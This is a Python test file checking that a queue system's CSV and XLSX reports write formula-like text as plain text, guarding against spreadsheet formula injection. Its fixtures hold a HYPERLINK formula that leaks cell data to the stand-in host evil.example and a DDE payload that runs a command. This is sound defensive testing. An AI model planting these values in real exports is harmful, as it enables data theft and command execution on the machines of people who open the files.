"""Exports safe to open: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text, update

from shared.cli.main import main
from shared.domain.clock import ManualClock
from shared.reports.safe import csv_cell, is_risky
from shared.store.db import Store
from shared.store.models import Event, Rating, Service, Ticket
from tests.reports.scenario import play_morning

DAY = ["report", "--day", "2026-11-30"]
LOGIN = '=HYPERLINK("http://evil.example/x?"&A1,"details")'
SERVICE = "+cmd|' /C calc'!A0"


@pytest.fixture
def hostile(store: Store, clock: ManualClock) -> str:
    """The morning, with names a store written before input limits may still hold."""
    play_morning(store, clock)
    with store.write() as s:
        if store.is_postgres:  # the event log is append-only but for the owner's maintenance
            s.execute(text("SET LOCAL hallq.maintenance = 'on'"))
        s.execute(update(Ticket).where(Ticket.clerk == "li.wei").values(clerk=LOGIN))
        s.execute(update(Event).where(Event.clerk == "li.wei").values(clerk=LOGIN))
        s.execute(update(Rating).where(Rating.clerk == "li.wei").values(clerk=LOGIN))
        s.execute(update(Service).where(Service.code == "A").values(name=SERVICE))
        s.execute(update(Service).where(Service.code == "B").values(name="\t-1+2"))
    return store.url


def test_only_text_that_could_be_a_formula_is_guarded() -> None:
    for risky in ("=1+1", "+1+1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "-2+3", "=HYPERLINK()"):
        assert is_risky(risky) and csv_cell(risky) == "'" + risky
    for plain in ("李伟", "A001", "-3", "+1.5", "-12.5%", "li.wei", "", "1=1"):
        assert not is_risky(plain) and csv_cell(plain) == plain
    assert csv_cell(-3) == -3


@pytest.mark.parametrize("by", ["clerk", "service"])
def test_csv_and_xlsx_write_formula_like_text_as_text(
    hostile: str, by: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--db", hostile, *DAY, "--format", "csv", "--by", by]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    labels = [row[0] for row in rows]
    expected = {"clerk": ["'" + LOGIN], "service": ["'" + SERVICE, "'\t-1+2"]}[by]
    for label in expected:
        assert any(cell.startswith(label) or label in cell for cell in labels), labels
    assert not any(is_risky(cell) for row in rows for cell in row)
    assert rows[-1][1:3] == ["7", "4"]  # figures stay figures

    path = tmp_path / "r.xlsx"
    assert main(["--db", hostile, *DAY, "--format", "xlsx", "--by", by, "-o", str(path)]) == 0
    book = load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    risky = [cell for cell in cells if isinstance(cell.value, str) and is_risky(cell.value)]
    assert risky, "the hostile names are in the workbook"
    for cell in risky:
        assert cell.data_type == "s" and cell.quotePrefix
    numbers = [cell for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert numbers  # figures are still numbers
    if by == "clerk":
        follow_ups = book.worksheets[2]
        values = [c.value for row in follow_ups.iter_rows() for c in row]
        assert LOGIN in values
